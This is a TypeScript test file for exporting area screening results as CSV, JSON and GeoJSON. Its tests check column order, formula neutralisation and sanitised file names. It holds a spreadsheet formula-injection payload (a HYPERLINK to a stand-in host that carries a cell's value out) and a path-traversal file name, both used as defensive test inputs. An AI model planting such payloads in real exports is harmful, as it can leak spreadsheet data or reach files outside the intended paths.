import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { csvCell } from '#core/csv.ts'
import { madeArea, madeScreening } from '#tests/support/made-screening.ts'
import { csvOf, exportName, geoJsonOf, jsonOf } from './export-files.ts'

const HOSTILE = '=HYPERLINK("http://example.test?x="&A1,"Averley, ""the"" place")\r\nnext'
const screening = madeScreening({
  areas: [madeArea(1, { name: HOSTILE, vli: null }), madeArea(2, { slopePerYear: -3.25, trend: 'falling' })],
})

// RFC 4180, read on its own.
function parseCsv(text: string): string[][] {
  const rows: string[][] = [[]]
  let cell = ''
  let isQuoted = false
  for (let at = 0; at < text.length; at++) {
    const char = text[at]!
    if (isQuoted && char === '"' && text[at + 1] === '"') {
      cell += '"'
      at++
    } else if (char === '"') isQuoted = !isQuoted
    else if (!isQuoted && (char === ',' || (char === '\r' && text[at + 1] === '\n'))) {
      rows.at(-1)!.push(cell)
      cell = ''
      if (char === '\r') {
        rows.push([])
        at++
      }
    } else cell += char
  }
  rows.pop()
  return rows
}

test('[S10] every row of the CSV has the header’s columns, in rank order, unknown left empty', () => {
  const [header, ...rows] = parseCsv(csvOf(screening))
  assert.ok(header)
  assert.deepEqual(
    rows.map((row) => row.length),
    rows.map(() => header.length),
  )
  const cell = (row: number, name: string) => rows[row]![header.indexOf(name)]
  assert.deepEqual([cell(0, 'rank'), cell(1, 'rank')], ['1', '2'])
  assert.deepEqual([cell(0, 'vli_open'), cell(1, 'vli_open')], ['', '214'])
  assert.equal(cell(1, 'slope_per_year'), '-3.25')
  assert.equal(cell(1, 'trend'), 'falling')
  assert.equal(cell(0, 'name'), `'${HOSTILE}`)
  assert.equal(cell(0, 'months_unknown'), '2023-05')
})

test('[S10] no text starts a formula, whatever it is', () => {
  fc.assert(
    fc.property(
      fc.tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', ' =', '|', '%', ''), fc.string()),
      (parts) => {
        const text = parts.join('')
        const [[cell] = []] = parseCsv(`${csvCell(text)}\r\n`)
        assert.doesNotMatch(cell!, /^\s*[=+\-@\t\r|%]/)
        assert.ok(cell === text || cell === `'${text}`)
      },
    ),
  )
})

test('the JSON is an array of areas in rank order with their figures', () => {
  const areas = JSON.parse(jsonOf(screening)) as Record<string, unknown>[]
  assert.deepEqual(areas, JSON.parse(JSON.stringify(screening.areas)))
  for (const key of ['code', 'name', 'count', 'rank', 'rankLow', 'rankHigh']) assert.ok(key in areas[0]!)
})

test('the GeoJSON keeps the order and has no geometry where there is no boundary', () => {
  const ring = [
    [0, 0],
    [1, 0],
    [1, 1],
    [0, 0],
  ]
  const shapes = [
    {
      properties: { code: screening.areas[1]!.code },
      geometry: { type: 'Polygon' as const, coordinates: [ring] },
    },
  ]
  const { type, features } = JSON.parse(geoJsonOf(screening, shapes))
  assert.equal(type, 'FeatureCollection')
  assert.deepEqual(
    features.map((feature: { properties: { rank: number } }) => feature.properties.rank),
    [1, 2],
  )
  assert.deepEqual(
    features.map((feature: { geometry: unknown }) => feature.geometry),
    [null, shapes[0]!.geometry],
  )
})

test('a file’s name is letters, digits, dots and hyphens', () => {
  assert.equal(exportName(screening, 'csv'), 'averley-lsoa-2021-01-to-2024-12.csv')
  assert.match(exportName({ ...screening, force: '../"x\r\n' as never }, 'json'), /^[A-Za-z0-9.-]+$/)
})
